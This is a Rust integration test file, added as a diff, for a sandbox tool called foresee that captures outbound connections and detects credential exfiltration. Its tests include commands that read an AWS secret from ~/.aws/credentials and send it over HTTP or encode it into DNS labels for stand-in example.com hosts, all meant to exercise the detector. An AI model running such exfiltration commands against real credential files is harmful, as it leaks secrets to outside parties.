@@ -1,0 +1,260 @@
+//! The egress gate, end to end through `foresee run --json`, root and rootless: every TCP
+//! connection ends at foresee's sink (names get placeholder addresses, IP literals and IPv6 are
+//! taken the same way), which records what identifies it and sends nothing; other datagrams are
+//! refused. Every destination is a reserved name (`.example.com`) or a documentation address
+//! (192.0.2.0/24, 2001:db8::/32): nothing could reach a real host even if the sandbox were broken.
+
+mod common;
+use common::*;
+use serde_json::Value;
+
+fn rules_of(v: &Value) -> Vec<String> {
+    v["findings"]
+        .as_array()
+        .map(|a| a.iter().filter_map(|f| f["rule"].as_str().map(String::from)).collect())
+        .unwrap_or_default()
+}
+
+fn fired(v: &Value, rule: &str) -> bool {
+    rules_of(v).iter().any(|r| r == rule)
+}
+
+/// The report's entries for connections that left the namespace (its own loopback aside).
+fn outside(v: &Value) -> Vec<Value> {
+    v["report"]["network"]
+        .as_array()
+        .map(|a| a.iter().filter(|n| n["loopback"] != true).cloned().collect())
+        .unwrap_or_default()
+}
+
+fn exit_code(v: &Value) -> i64 {
+    v["report"]["execution"]["exit_code"].as_i64().unwrap_or(-1)
+}
+
+/// A fake GitHub token by shape; not a real one.
+const FAKE_TOKEN: &str = "ghp_Zq7x0a1b2c3d4e5f6g7h8i9j0kLmNoPqRsTuV";
+
+#[test]
+fn plain_http_to_a_name_and_to_an_ip_literal_is_recorded_with_its_request_and_answered_502() {
+    if !need(have("curl"), "curl") {
+        return;
+    }
+    for mode in modes() {
+        let env = Env::new(mode);
+        // -f: an HTTP error status is exit 22, so the client got foresee's 502 (not a time-out,
+        // 28, nor a refused connection, 7).
+        let (o, v) = env.run_json(
+            &format!("curl -sS -f -m 20 -H 'Authorization: Bearer {FAKE_TOKEN}' http://api.example.com/v1/upload?q=1"),
+            &[],
+        );
+        let own = v.to_string() + &stderr(&o);
+        assert!(!own.contains(FAKE_TOKEN), "{mode:?}: the token is in foresee's answer: {own}");
+        assert_eq!(exit_code(&v), 22, "{mode:?}: {v}");
+        let net = outside(&v);
+        assert_eq!(net.len(), 1, "{mode:?}: {net:?}");
+        let n = &net[0];
+        assert_eq!(n["name"], "api.example.com", "{mode:?}: {n}");
+        assert!(n["destination"].as_str().unwrap_or_default().starts_with("198.18."), "placeholder: {n}");
+        assert_eq!(n["port"], 80);
+        assert_eq!(n["protocol"], "http");
+        assert_eq!(n["method"], "GET");
+        assert_eq!(n["path"], "/v1/upload?q=1");
+        assert_eq!(n["host"], "api.example.com");
+        assert!(n["bytes"].as_u64().unwrap_or(0) > 60, "{n}");
+        assert_eq!(n["credentials"], serde_json::json!(["github-token"]), "{n}");
+        assert!(fired(&v, "network.attempt"), "{v}");
+        assert!(v["reason"].as_str().unwrap_or_default().contains("api.example.com:80"), "{v}");
+        assert!(v["reason"].as_str().unwrap_or_default().contains("github-token"), "{v}");
+
+        // The look-alike without a credential: the same request is recorded, carrying none.
+        let (_, v) = env.run_json("curl -sS -f -m 20 -X POST -d x=1 http://192.0.2.7:8080/form", &[]);
+        assert_eq!(exit_code(&v), 22, "{mode:?}: {v}");
+        let net = outside(&v);
+        assert_eq!(net.len(), 1, "{mode:?}: {net:?}");
+        let n = &net[0];
+        assert_eq!(n["destination"], "192.0.2.7:8080");
+        assert_eq!(n["name"], Value::Null, "an IP literal was looked up by no one");
+        assert_eq!((n["method"].as_str(), n["path"].as_str()), (Some("POST"), Some("/form")), "{n}");
+        assert_eq!(n["credentials"], Value::Null, "{n}");
+        assert!(fired(&v, "network.attempt"), "{v}");
+    }
+}
+
+#[test]
+fn a_tls_client_hello_is_read_whole_and_its_server_name_reported() {
+    if !need(have("python3"), "python3") {
+        return;
+    }
+    for mode in modes() {
+        let env = Env::new(mode);
+        // Exit 3 when the handshake fails as it should (the sink closes the connection).
+        let script = "python3 -c \"
+import socket, ssl, sys
+c = ssl.create_default_context()
+c.set_alpn_protocols(['h2', 'http/1.1'])
+try:
+    c.wrap_socket(socket.create_connection(('tls.example.com', 443), timeout=20), server_hostname='tls.example.com')
+except (ssl.SSLError, OSError):
+    sys.exit(3)
+\"";
+        let (_, v) = env.run_json(script, &[]);
+        assert_eq!(exit_code(&v), 3, "{mode:?}: {v}");
+        let net = outside(&v);
+        assert_eq!(net.len(), 1, "{mode:?}: {net:?}");
+        let n = &net[0];
+        assert_eq!(n["protocol"], "tls", "{n}");
+        assert_eq!(n["sni"], "tls.example.com", "{n}");
+        assert_eq!(n["name"], "tls.example.com", "{n}");
+        assert_eq!(n["alpn"], serde_json::json!(["h2", "http/1.1"]), "{n}");
+        assert_eq!(n["method"], Value::Null, "a TLS request's method is not seen without inspection");
+        if have("openssl") {
+            // An IP literal with a server name of its own: the SNI names it.
+            let (_, v) = env.run_json(
+                "echo | openssl s_client -connect 192.0.2.11:443 -servername x.example.com >/dev/null 2>&1",
+                &[],
+            );
+            let net = outside(&v);
+            assert_eq!(net.len(), 1, "{mode:?}: {net:?}");
+            assert_eq!(net[0]["destination"], "192.0.2.11:443");
+            assert_eq!(net[0]["sni"], "x.example.com", "{mode:?}: {v}");
+            assert!(v["reason"].as_str().unwrap_or_default().contains("x.example.com:443"), "{v}");
+        }
+    }
+}
+
+#[test]
+fn ipv6_literals_and_fast_open_reach_the_sink_too_and_datagrams_out_are_refused() {
+    if !need(have("python3"), "python3") {
+        return;
+    }
+    for mode in modes() {
+        let env = Env::new(mode);
+        // An IPv6 TCP connection (IPV6_V6ONLY set, as some clients do), a TCP Fast Open send
+        // (blocking: with a time-out Python's socket would answer EINPROGRESS), then a
+        // QUIC-like datagram: the first two reach the sink, the last is refused (exit 4).
+        let script = "python3 -c \"
+import socket, sys
+s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
+s.settimeout(20)
+s.connect(('2001:db8::5', 8443))
+s.sendall(b'SSH-2.0-test-client\\r\\n')
+s.recv(10)
+f = socket.socket()
+f.sendto(b'GET /fast HTTP/1.0\\r\\n\\r\\n', socket.MSG_FASTOPEN, ('192.0.2.13', 80))
+f.recv(10)
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+try:
+    u.sendto(b'quic', ('192.0.2.10', 443))
+except OSError:
+    sys.exit(4)
+\"";
+        let (_, v) = env.run_json(script, &[]);
+        assert_eq!(exit_code(&v), 4, "{mode:?}: the datagram was not refused: {v}");
+        let net = outside(&v);
+        let tcp = net.iter().find(|n| n["destination"] == "[2001:db8::5]:8443").expect("the IPv6 connection");
+        assert_eq!(tcp["protocol"], "ssh banner SSH-2.0-test-client", "{tcp}");
+        assert_eq!(tcp["op"], "connect");
+        // A TCP Fast Open send connects too: taken the same way.
+        let fast = net.iter().find(|n| n["destination"] == "192.0.2.13:80").expect("the fast open");
+        assert_eq!((fast["method"].as_str(), fast["path"].as_str()), (Some("GET"), Some("/fast")), "{fast}");
+        let udp = net.iter().find(|n| n["destination"] == "192.0.2.10:443").expect("the datagram");
+        assert_eq!(udp["refused"], true, "{udp}");
+        // The look-alike: a lookup through foresee's resolver is a datagram that goes through.
+        let (_, v) = env.run_json("getent ahostsv4 pkgs.example.com >/dev/null", &[]);
+        assert_eq!(exit_code(&v), 0, "{mode:?}: the resolver answered: {v}");
+        assert!(v["report"]["lookups"].to_string().contains("pkgs.example.com"), "{v}");
+        assert!(outside(&v).iter().all(|n| n["refused"] != true), "{v}");
+    }
+}
+
+/// A value of a protected file, sent in a request or spelled into a name, is reported by class
+/// and source and never by value; a name that only looks ordinary carries nothing.
+#[test]
+fn a_protected_value_sent_or_spelled_into_a_name_is_found_and_never_shown() {
+    if !need(have("curl") && have("python3"), "curl and python3") {
+        return;
+    }
+    const SECRET: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY";
+    for mode in modes() {
+        let env = Env::new(mode);
+        std::fs::create_dir_all(env.home.join(".aws")).unwrap();
+        std::fs::write(
+            env.home.join(".aws/credentials"),
+            format!(
+                "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = {SECRET}\n"
+            ),
+        )
+        .unwrap();
+        env.fix_owner();
+        let clean = |o: &std::process::Output, v: &Value| {
+            let own = v.to_string() + &stderr(o);
+            assert!(!own.contains(SECRET), "{mode:?}: the value is in foresee's answer");
+        };
+        // Over plain HTTP, in a header.
+        let (o, v) = env.run_json(
+            "curl -s -m 20 -H \"X-Data: $(sed -n 's/^aws_secret_access_key = //p' ~/.aws/credentials)\" http://drop.example.com/",
+            &[],
+        );
+        clean(&o, &v);
+        assert!(fired(&v, "secret.exfiltration"), "{mode:?}: {v}");
+        assert_eq!(v["decision"], "block");
+        let n = outside(&v).into_iter().find(|n| n["name"] == "drop.example.com").expect("the request");
+        assert!(n["protected_values"].to_string().contains("aws-credentials"), "{n}");
+        // In DNS labels, base32 as exfiltration tools spell it (30 bytes: a label has at most
+        // 63 characters): a label no host name has.
+        let (o, v) = env.run_json(
+            "getent hosts $(sed -n 's/^aws_secret_access_key = //p' ~/.aws/credentials | python3 -c 'import base64,sys; print(base64.b32encode(sys.stdin.buffer.read().strip()[:30]).decode().rstrip(\"=\").lower())').x.example.com >/dev/null",
+            &[],
+        );
+        clean(&o, &v);
+        assert!(fired(&v, "dns.exfiltration"), "{mode:?}: {v}");
+        assert!(v["report"]["lookups"].to_string().contains("(partial base32)"), "found by value: {v}");
+        // Hex in a label of ordinary length: found by value.
+        let (o, v) = env.run_json(
+            "getent hosts $(printf %s AKIAIOSFODNN7EXAMPLE | od -An -tx1 | tr -d ' \\n').x.example.com >/dev/null",
+            &[],
+        );
+        clean(&o, &v);
+        assert!(fired(&v, "dns.exfiltration"), "{mode:?}: {v}");
+        assert!(v["report"]["lookups"].to_string().contains("aws-credentials from"), "{mode:?}: {v}");
+        // The look-alike: ordinary names, one lookup each, carry nothing.
+        let (_, v) = env.run_json(
+            "getent hosts pkgs.example.com files.example.com >/dev/null; getent hosts d1x2y3.cdn.example.com >/dev/null",
+            &[],
+        );
+        assert!(!fired(&v, "dns.exfiltration"), "{mode:?}: {v}");
+        assert!(fired(&v, "network.attempt"), "{mode:?}: {v}");
+    }
+}
+
+/// The machine's own resolver daemons are not reachable from inside: their sockets live under
+/// `/run`, which the sandbox replaces. Shown with a socket this test binds there itself.
+#[test]
+fn a_resolver_socket_under_run_is_hidden() {
+    if !need(is_root(), "root (to bind a socket under /run)") || !need(have("python3"), "python3") {
+        return;
+    }
+    let dir = std::path::Path::new("/run").join(format!("foresee-test-nscd-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let sock = dir.join("socket");
+    let _ = std::fs::remove_file(&sock);
+    let listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
+    listener.set_nonblocking(true).unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
+    std::fs::set_permissions(&sock, std::fs::Permissions::from_mode(0o777)).unwrap();
+    for mode in modes() {
+        let env = Env::new(mode);
+        let (_, v) = env.run_json(
+            &format!(
+                "python3 -c \"import socket,sys; s=socket.socket(socket.AF_UNIX); sys.exit(5 if s.connect_ex('{}') else 0)\"",
+                sock.display()
+            ),
+            &[],
+        );
+        assert!(listener.accept().is_err(), "{mode:?}: the socket under /run accepted a connection");
+        assert_eq!(exit_code(&v), 5, "{mode:?}: {v}");
+    }
+    let _ = std::fs::remove_dir_all(&dir);
+}
